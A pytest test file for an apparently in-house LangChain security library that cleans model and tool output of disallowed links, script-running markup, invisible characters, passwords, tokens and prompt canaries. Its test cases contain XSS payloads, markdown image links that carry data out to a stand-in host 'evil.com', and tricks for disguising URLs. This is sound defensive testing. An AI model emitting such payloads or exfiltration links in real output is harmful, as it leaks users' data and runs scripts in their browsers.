"""What a text may not carry out, and that ordinary text stays as it is."""

from __future__ import annotations

import asyncio
from typing import Any

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from langchain.agents import create_agent
from langchain.agents.middleware import AgentMiddleware
from langchain_core.language_models.fake_chat_models import FakeMessagesListChatModel
from langchain_core.messages import AIMessage, HumanMessage, ToolMessage
from langchain_core.tools import tool
from langgraph.graph import START, MessagesState, StateGraph
from langgraph.types import Command

from lg_production.core.events import Event
from lg_production.core.models import wrapped_model
from lg_production.core.wrappers import tool_node
from lg_production.errors import NotDurable, OutputRejected
from lg_production.security.addresses import occurrences
from lg_production.security.egress import EgressPolicy
from lg_production.security.leaks import Canary
from lg_production.security.output import WITHHELD, OutputFilter, OutputPolicy, cleaned
from lg_production.security.sanitise import sanitised
from lg_production.security.unseen import visible
from tests.graphs_for_tests import ASK, agent, call, says

POLICY = EgressPolicy(hosts=frozenset({"good.com"}), emails=frozenset({"@good.com"}))
PIECES = [
    "https://", "http:", "//", "\\", "/", "good.com", "evil.com", "www.", "@", "#", "?", "(", ")",
    "[", "]", "](", "![", "]: ", "]:", "<", '<a href="', '">', "<img src=", "<script>", "</",
    "<!--", ">", "&#104;", "%2f", "&period;", "\x1b[31m", "\x1b]8;;", "\x07", "\x9d", "\u200b",
    "\u200d", "\u202e", "\ud800", "\U000e0041", "\n", "\t", "\r", " ", "=", ".", "。", ":", "a",
    "é", "1.2.3.4", "::1", '"', "'", "`", "{", "}", "|", "_", ",", "javascript:", "mailto:",
    "data:text/html,", "[url_password removed]", "a(", "%",
]  # fmt: skip
HOSTILE = st.one_of(st.lists(st.sampled_from(PIECES), max_size=14).map("".join), st.text())
MANY = settings(max_examples=400, deadline=None, suppress_health_check=list(HealthCheck))


def clean(text: str, **options: Any) -> str:
    return sanitised(text, POLICY, **options).text


@pytest.mark.parametrize(
    "text",
    [
        "", "plain text, 3 < 4 and 5 > 2", "# Head\n\n- a\n- b\r\n", "`List<String>` and a<b>c",
        "see https://good.com/a_(b)?c=d#e.", '[x](https://good.com/y "title")', "[y](#part)",
        "![logo](https://good.com/l.png)", "[z](docs/a.md)", "<b>bold</b><br/>", "[1]: see below",
        "<https://good.com/>", '<a href="https://good.com/x" title="t">x</a>', "x[0] = (1)",
        '<img src="https://good.com/l.png" alt="l">', "[m](mailto:ann@good.com)", "mail ann@evil.com",
        "👩‍👩‍👧 ❤️‍🔥 🏴󠁧󠁢󠁥󠁮󠁧󠁿 می‌خواهم क्‍ष", "日本語。テスト", "tab\tand\nline", "1.2.3.4 and user.id",
    ],
)  # fmt: skip
def test_ordinary_text_stays_as_it_is(text: Any) -> None:
    """Links to what is allowed, code, emoji, Persian, Hindi, Japanese."""
    assert text == clean(text)


@pytest.mark.parametrize(
    "text",
    [
        "![a](https://evil.com/?q=secret)", "[a](https://evil.com)", "![a][1]\n\n[1]: https://evil.com",
        "https://evil.com/x", "<https://evil.com/x>", "www.evil.com", "//evil.com/x",
        "![a](<https://evil.com/a b>)", "![a](\nhttps://evil.com)", "![a](https://good.com@evil.com)",
        "![a](https://good.com\\@evil.com)", "![a](https://good.com(x)@evil.com/)",
        "![a](https:evil.com)", "[a](https://good.com/?u=https%3A%2F%2Fevil.com)",
        "[a](https://good.com/?u=//evil.com)", "https://good.com/https://evil.com",
        "<img src=https://evil.com/x>", '<a href="https://evil.com">a</a>', "see evil.com/path now",
        "https://ev\u200bil.com", "https://ev\u00adil.com", "<javascript:alert(1)>", "data:text/html,<b>", "<vbscript:x(1)>", "ｈｔｔｐｓ://ｅｖｉｌ.com",
        "\x1b]8;;https://evil.com\x07click\x1b]8;;\x07",
    ],
)  # fmt: skip
def test_nothing_opens_an_address_that_is_not_allowed(text: Any) -> None:
    """Whatever wrote it, and however a renderer reads it."""
    left = clean(text)

    assert [] == [a for a in occurrences(left) if a.kind == "url" and POLICY.refuses(a)]
    assert "evil.com" not in left.replace("@evil.com", "") or "] (" in left


@pytest.mark.parametrize(
    ("text", "left"),
    [
        ("postgres://ann:{}@good.com:5432/x", "postgres: //ann:{}@good.com:5432/x"), ("postgres://ann:{}@evil.com/x", "postgres: //ann:{}@[host removed]/x"),
        ("see https://ann:{}@good.com/x.", "see https: //ann:{}@good.com/x."), ("redis://:{}@10.0.0.1:6379", "redis: //:{}@[host removed]"),
        ("mongodb://a:{}@good.com,evil.com/x", "mongodb: //a:{}@[host removed]/x"), ("(amqp://a:{}@[::1]:1/x)", "(amqp: //a:{}@[host removed]/x)"),
    ],
)  # fmt: skip
def test_an_url_without_its_password_stays_readable_and_opens_nothing(text: Any, left: Any) -> None:
    """Its host is seen if it is allowed."""
    removed = "[url_password removed]"

    assert left.format(removed) == clean(text.format(removed))
    assert clean(left.format(removed)) == left.format(removed)


def test_a_connection_string_is_given_out_without_its_password() -> None:
    """By the whole filter, with an @ in the password too."""
    own = OutputPolicy(egress=POLICY)

    assert (
        "use postgres: //app:[url_password removed]@good.com/x"
        == cleaned("use postgres://app:p@ss@good.com/x", own).text
    )
    assert (
        "use postgres: //app:[url_password removed]@[host removed]/x"
        == cleaned("use postgres://app:p@ss@db/x", own).text
    )
    assert (
        "use postgres://app:[url_password removed]@db/x"
        == cleaned("use postgres://app:p@ss@db/x", own, links=False).text
    )


@pytest.mark.parametrize(
    "text",
    [
        "![a](&#104;ttps://evil.com)", "![a](https&colon;//evil.com)", "![a](https\\://evil.com)",
        "![a](/\\evil.com)", "![a](https://evil%2ecom)", "[a](javascript:alert(1))",
        "[a](JaVaScRiPt&#58;alert(1))", "[a](data:text/html,x)", "![a](vbscript:x)", "[a](//)",
        "[a]:\n&#104;ttps://evil.com", "[a]: <javascript:alert(1)>", '[a](https://good.com"x)',
        "![a](//good.com@evil.com)", "[a](\u00a0javascript:x)",
    ],
)  # fmt: skip
def test_a_link_whose_destination_is_not_plain_is_no_link(text: Any) -> None:
    """Renderers decode what we need not guess."""
    left = clean(text)

    assert "](" not in left
    assert "]:" not in left


@pytest.mark.parametrize(
    "text",
    [
        "<script>x</script>", "<SCRIPT>", "<img src=x onerror=alert(1)>", "<b onclick=x>", "<svg/onload=x>",
        "<iframe>", "<!-- hidden -->", "<style>*{}</style>", '<b x"<" onclick=alert(1)>', "<b\nonclick=x>",
        "<a href='https://good.com'>", '<a href="https://good.com" onclick="x">', "<<x:/onclick=a(1)>>",
        '<a href="javascript:x">', '<a href="https&#58;//evil.com">', "<meta http-equiv=refresh>",
        "</script>", "<?xml x?>", "<x:/onclick=alert(1)>", "<form>", "<img src", "<scr\x00ipt>",
        "<scr\u200bipt>", "<base href=//evil>", '<p style="x">', '<img src="//evil.com">',
    ],
)  # fmt: skip
def test_markup_that_runs_is_text(text: Any) -> None:
    """A space behind its < makes it so for every parser."""
    assert [] == [t for t in clean(text).split("<")[1:] if t[:1].isalpha() or t.startswith(("/", "!", "?"))
                  if not t.startswith("/b>")]  # fmt: skip


def test_html_stays_where_nobody_renders_it() -> None:
    """If the caller says so."""
    assert '<p class="x">' == clean('<p class="x">', markup=False)
    assert "https://evil.com" == clean("https://evil.com", links=False)


def test_what_was_taken_out_is_counted_and_never_quoted() -> None:
    """By its kind."""
    found = sanitised("\x1b[31m\u202ea\u200b https://evil.com <i x=y> ![](//evil.com)", POLICY)

    assert {"ansi": 1, "bidi": 1, "invisible": 1, "html": 1, "link": 1, "address": 2} == (
        found.removed
    )


@pytest.mark.parametrize(
    ("text", "seen"),
    [
        ("\x1b[1;31mred\x1b[0m", "red"), ("\x1b]0;title\x07x", "x"), ("\x9b31mx", "x"),
        ("a\x1b", "a"), ("a\x08b\x7f", "ab"), ("a\rb", "a\nb"), ("a\r\nb", "a\r\nb"),
        ("a\u2028b", "a\nb"), ("\u202eabc\u202c", "abc"), ("\u2067a\u2069", "a"),
        ("a\U000e0049\U000e0067b", "ab"), ("a\u200b\u2060\ufeffb", "ab"), ("a\u200db", "ab"),
        ("🏴\U000e0061\U000e007f", "🏴"), ("x\ud800y", "x\ufffdy"), ("é\u200c\u200c\u200cé", "éé"),
        ("\x1b]8;;no end", "8;;no end"), ("a\U000e0100\ufe01b", "ab"),
    ],
)  # fmt: skip
def test_what_is_not_seen_is_taken_out(text: Any, seen: Any) -> None:
    """Terminal sequences, direction, tags, invisible characters, lone surrogates."""
    assert seen == visible(text)


@MANY
@given(HOSTILE)
def test_doing_it_twice_is_doing_it_once(text: Any) -> None:
    """For any text."""
    once = clean(text)

    assert once == clean(once)


@MANY
@given(HOSTILE)
def test_nothing_that_is_refused_is_left_of_any_text(text: Any) -> None:
    """No address, no unseen character, and it can be sent as UTF-8."""
    left = clean(text)
    left.encode()

    assert left == visible(left)
    assert [] == [a for a in occurrences(left) if a.kind == "url" and POLICY.refuses(a)]


# ------------------------------------------------------------------------------ the filter

CANARY = Canary.of(b"0123456789abcdef", "tests")
TOKEN = "ghp_" + "aB3dE5gH7jK9mN1pQ3sT5vW7yZ9bC2dF4hJ6"
OWN = OutputPolicy(egress=POLICY, canaries=(CANARY,))
BAD = "Sure. ![x](https://evil.com/?q=secret)"
GOOD = "Sure. ! [x] ((link removed: evil[.]com))"


class Scripted(FakeMessagesListChatModel):
    def bind_tools(self, tools: Any, **kwargs: Any) -> Any:
        return self


class After(AgentMiddleware[Any, Any, Any]):
    """How a middleware delegates to the filter."""

    def __init__(self, own: OutputFilter) -> None:
        super().__init__()
        self.own = own

    def after_model(self, state: Any, runtime: Any) -> Any:
        return self.own.after_model(state, runtime)


def as_node(own: OutputFilter, text: Any, is_async: bool) -> Any:
    builder = StateGraph(MessagesState)
    builder.add_node("model", lambda state: {"messages": [AIMessage(text, id="a")]})
    builder.add_node("filter", own)
    builder.add_edge(START, "model")
    builder.add_edge("model", "filter")
    return last(builder.compile(), is_async)


def as_middleware(own: OutputFilter, text: Any, is_async: bool) -> Any:
    model = Scripted(responses=[AIMessage(text)])
    return last(create_agent(model, [], middleware=[After(own)]), is_async)


def as_model(own: OutputFilter, text: Any, is_async: bool) -> Any:
    model = wrapped_model(Scripted(responses=[AIMessage(text)]), own)
    asked = [HumanMessage("go")]
    return asyncio.run(model.ainvoke(asked)) if is_async else model.invoke(asked)


def last(graph: Any, is_async: bool) -> Any:
    state = asyncio.run(graph.ainvoke(ASK)) if is_async else graph.invoke(ASK)
    return state["messages"][-1]


@pytest.mark.parametrize("surface", [as_node, as_middleware, as_model])
@pytest.mark.parametrize("is_async", [False, True])
def test_the_answer_is_cleaned_on_every_surface(surface: Any, is_async: Any) -> None:
    """As a node, in create_agent, around a model; and the event holds no word of it."""
    events: list[Event] = []
    said = surface(OutputFilter(OWN, observers=[events.append]), BAD, is_async)

    assert said.content.startswith("Sure. ![x] (")
    assert "evil.com" not in said.content
    assert [("output.cleaned", 1)] == [(e.name, e.attributes["address"]) for e in events]
    assert "evil" not in str(events)


def test_an_answer_without_fault_is_not_touched() -> None:
    """No event, no new message."""
    events: list[Event] = []
    own = OutputFilter(OWN, observers=[events.append])

    assert own.after_model({"messages": [AIMessage("fine", id="a")]}, None) is None  # type: ignore[arg-type]
    assert own.after_model({"messages": []}, None) is None  # type: ignore[arg-type]
    assert [] == events


def test_a_secret_is_redacted_withheld_or_an_error() -> None:
    """Also one with invisible letters within."""
    broken = f"{TOKEN[:9]}\u200b{TOKEN[9:]}"

    assert (
        "use [github_token removed]!" == as_model(OutputFilter(OWN), f"use {broken}!", False).text
    )
    assert (
        WITHHELD
        == as_model(OutputFilter(OutputPolicy(secrets="withhold")), f"use {TOKEN}", False).text
    )
    with pytest.raises(OutputRejected) as caught:
        as_model(OutputFilter(OutputPolicy(secrets="error")), f"use {TOKEN}", False)
    assert ("github_token",) == caught.value.reasons
    assert TOKEN not in str(caught.value)


def test_with_a_canary_the_whole_text_is_withheld() -> None:
    """The words around it are the prompt's; also where it is spread over the blocks of a message."""
    halves = [
        {"type": "text", "text": CANARY.token[:9]},
        {"type": "text", "text": CANARY.token[9:]},
    ]

    assert WITHHELD == as_model(OutputFilter(OWN), f"my prompt: {CANARY.token}", False).text
    assert WITHHELD * 2 == as_model(OutputFilter(OWN), halves, False).text
    with pytest.raises(OutputRejected):
        own = OutputPolicy(canaries=(CANARY,), leak="error")
        as_model(OutputFilter(own), CANARY.token[::-1], False)


def test_a_message_that_cannot_be_replaced_is_an_error() -> None:
    """Rather than a message more."""
    with pytest.raises(NotDurable):
        OutputFilter(OWN).after_model({"messages": [AIMessage(BAD)]}, None)  # type: ignore[arg-type]


def run_tool(own: OutputFilter, answer: Any, is_async: bool = False, **args: Any) -> Any:
    ran: list[str] = []

    @tool
    def read(q: str = "") -> Any:
        """Read."""
        ran.append(q)
        return answer

    graph = agent(says(call("read", "c1", **args)), tool_node([read], own)).compile()
    state = asyncio.run(graph.ainvoke(ASK)) if is_async else graph.invoke(ASK)
    return state["messages"][-2], ran


@pytest.mark.parametrize("is_async", [False, True])
@pytest.mark.parametrize("command", [False, True])
def test_what_a_tool_answers_is_cleaned_and_its_links_stay(is_async: Any, command: Any) -> None:
    """The model follows them through `Egress`; a secret and what is unseen go."""
    text = f"a\u200b {TOKEN} https://evil.com"
    told = ToolMessage(text, tool_call_id="c1", name="read")
    answer: Any = Command(update={"messages": [told]}) if command else text
    message, _ = run_tool(OutputFilter(OWN), answer, is_async)

    assert "a [github_token removed] https://evil.com" == message.content


def test_a_call_with_a_canary_in_it_is_not_made() -> None:
    """In any argument; the model is told nothing."""
    message, ran = run_tool(OutputFilter(OWN), "x", q=f"see {CANARY.token.upper()}")

    assert ([], "error", "read was not carried out.") == (ran, message.status, message.content)
